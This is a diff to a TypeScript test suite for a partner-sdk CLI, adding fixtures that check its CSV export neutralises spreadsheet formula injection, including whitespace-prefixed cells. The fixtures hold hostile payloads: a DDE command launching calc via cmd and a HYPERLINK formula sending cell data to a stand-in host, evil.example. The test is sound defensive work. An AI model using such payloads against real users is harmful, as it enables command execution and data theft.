@@ -37,8 +37,14 @@ const FORMULAS = {
   support_email: "@SUM(1+1)*cmd|' /C calc'!A0",
   tab: '\t=1+1',
   cr: '\r=1+1',
+  spaced: ' =1+1',
+  tab_then: '\t@SUM(1+1)',
+  spaces_at: '  @SUM(1+1)',
+  newline_plus: '\n+1+1',
+  nbsp_minus: '\u00a0-2+3',
   refund_deadline: -7,
   text_number: '-150',
+  spaced_number: ' -150',
 };
 
 const page = (data: unknown[]) => ({
@@ -266,10 +272,10 @@ describe('partner-sdk against an odd service', { timeout: 60_000 }, () => {
     expect(jsonLines(piped.stdout).map((row) => row.name)).toEqual([TRICKY_NAME, 'plain']);
   });
 
-  it("CSV never hands a spreadsheet a formula: a service's cell starting with = + - @, a tab or a CR is quoted behind a ', numbers kept", async () => {
+  it("CSV never hands a spreadsheet a formula: a service's cell starting with = + - @ (after whitespace too), a tab or a CR is quoted behind a ', numbers kept", async () => {
     const expected =
-      'hash,name,type,status,support_email,tab,cr,refund_deadline,text_number\n' +
-      `prd_f,"'=HYPERLINK(""http://evil.example/?""&A1,""Open"")","'+cmd|' /C calc'!A0","'-2+3","'@SUM(1+1)*cmd|' /C calc'!A0","'\t=1+1","'\r=1+1",-7,-150\n`;
+      'hash,name,type,status,support_email,tab,cr,spaced,tab_then,spaces_at,newline_plus,nbsp_minus,refund_deadline,text_number,spaced_number\n' +
+      `prd_f,"'=HYPERLINK(""http://evil.example/?""&A1,""Open"")","'+cmd|' /C calc'!A0","'-2+3","'@SUM(1+1)*cmd|' /C calc'!A0","'\t=1+1","'\r=1+1","' =1+1","'\t@SUM(1+1)","'  @SUM(1+1)","'\n+1+1","'\u00a0-2+3",-7,-150, -150\n`;
     const list = await run('formulas', ['--format', 'csv', 'products', 'list']);
     expect(list.code).toBe(0);
     expect(list.stdout).toBe(expected);
